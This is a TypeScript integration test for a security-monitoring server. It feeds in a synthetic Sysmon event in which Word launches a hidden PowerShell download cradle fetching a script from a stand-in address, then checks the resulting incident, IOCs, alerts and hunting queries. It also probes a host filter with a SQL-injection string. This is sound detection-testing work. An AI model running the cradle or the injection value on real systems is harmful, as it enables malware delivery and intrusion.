/**
 * The evidence behind an incident, on the real server: a Sysmon process start (an Office
 * document spawning a PowerShell download cradle) becomes an incident whose document names the
 * matched command line and whose IOCs hold the URL and the address it downloads from; the alerts
 * endpoint gives each rule with the values that matched, the events endpoint the normalized event
 * and the original record; hunting finds them by time, entity, rule and technique.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { post, startTestServer } from '../helpers.js'

let server: Awaited<ReturnType<typeof startTestServer>>
const CMD = "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.200/a.ps1')"
const record = {
  EventID: 1,
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  SourceName: 'Microsoft-Windows-Sysmon',
  Hostname: 'WKS-7.corp.example',
  UtcTime: '2026-11-24 10:00:00.000',
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  CommandLine: CMD,
  ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  User: 'CORP\\jdoe',
  ProcessId: 4242,
}
beforeAll(async () => {
  server = await startTestServer()
}, 120_000)
afterAll(async () => {
  await server?.cleanup()
})
const get = async (path: string) => {
  const r = await fetch(`${server.url}${path}`)
  return { status: r.status, json: (await r.json()) as any }
}

describe('evidence', () => {
  let id: string
  it('puts the matched values and the indicators in the incident', async () => {
    expect((await post(`${server.url}/api/ingest`, JSON.stringify(record), 'application/json')).status).toBe(202)
    const list = await get('/api/incidents?limit=5')
    id = list.json.incidents[0].id
    const inc = (await get(`/api/incident/${id}`)).json
    const values = Object.values(inc.evidence as Record<string, Record<string, string[]>>).flatMap((f) => Object.values(f).flat())
    expect(values).toContain(CMD)
    expect(inc.verdict.iocs.urls).toContain('http://198.51.100.200/a.ps1')
    expect(inc.verdict.iocs.ips).toContain('198.51.100.200')
  })

  it("serves the incident's alerts with the values that matched, and its events with the original record", async () => {
    const alerts = await get(`/api/incident/${id}/alerts`)
    expect(alerts.status).toBe(200)
    expect(alerts.json.total).toBe(2)
    const cradle = alerts.json.alerts.find((a: any) => a.matched['process.command_line'] !== undefined)
    expect(cradle).toMatchObject({ rule: { level: expect.any(String) }, matched: { 'process.command_line': CMD }, attack: { techniques: expect.arrayContaining([expect.stringMatching(/^T1059/)]) } })
    const events = await get(`/api/incident/${id}/events`)
    expect(events.json.total).toBe(1)
    expect(events.json.events[0]).toMatchObject({ event_id: cradle.event_ids[0], process_command_line: CMD, host_name: 'WKS-7.corp.example', timestamp: '2026-11-24T10:00:00.000Z' })
    expect(JSON.parse(events.json.events[0].original)).toMatchObject({ CommandLine: CMD })
    expect((await get(`/api/incident/${id}/alerts?limit=1&offset=1`)).json.alerts).toHaveLength(1)
    expect((await get('/api/incident/nope/events')).status).toBe(404)
  })

  it('finds alerts and events by time range, entity, rule and technique; refuses a bad range', async () => {
    const window = 'from=2026-11-24T09:00:00Z&to=2026-11-24T11:00:00Z'
    expect((await get(`/api/alerts?${window}&host=WKS-7.corp.example`)).json.total).toBe(2)
    const byTechnique = await get(`/api/alerts?${window}&technique=T1059.001`)
    expect(byTechnique.json.alerts.every((a: any) => a.attack.techniques.includes('T1059.001'))).toBe(true)
    expect((await get(`/api/alerts?${window}&host=other`)).json.total).toBe(0)
    expect((await get(`/api/events?${window}&user=jdoe`)).json.total).toBe(1)
    expect((await get('/api/alerts?from=2026-11-24T09:00:00Z&to=2026-11-20T11:00:00Z')).json.error.code).toBe('REQUEST_INVALID')
    expect((await get("/api/alerts?host=x' OR 1=1 --")).json.total).toBe(0)
    expect((await get('/api/alerts?technique=nope')).status).toBe(400)
  })

  it('charts the same data in the SOC overview of the range, and nothing outside it', async () => {
    const o = (await get('/api/overview?from=2026-11-24T09:00:00Z&to=2026-11-24T11:00:00Z')).json
    expect(o.bucket_seconds).toBe(300)
    expect(o.incidents_over_time).toEqual([{ t: '2026-11-24T10:00:00Z', counts: { CRITICAL: 1 } }])
    expect(o.open_by_status).toEqual({ new: 1 })
    expect(o.top_users).toEqual([{ value: 'jdoe', alerts: 2 }])
    // the same count the hunting endpoint gives for the technique
    const hunted = (await get('/api/alerts?from=2026-11-24T09:00:00Z&to=2026-11-24T11:00:00Z&technique=T1059.001')).json.total
    expect(hunted).toBeGreaterThan(0)
    expect(o.attack.find((a: any) => a.technique === 'T1059.001')).toEqual({ technique: 'T1059.001', name: 'PowerShell', tactics: ['execution'], alerts: hunted })
    const before = (await get('/api/overview?from=2026-11-23T09:00:00Z&to=2026-11-23T11:00:00Z')).json
    expect([before.incidents_over_time, before.top_users, before.attack]).toEqual([[], [], []])
  })
})
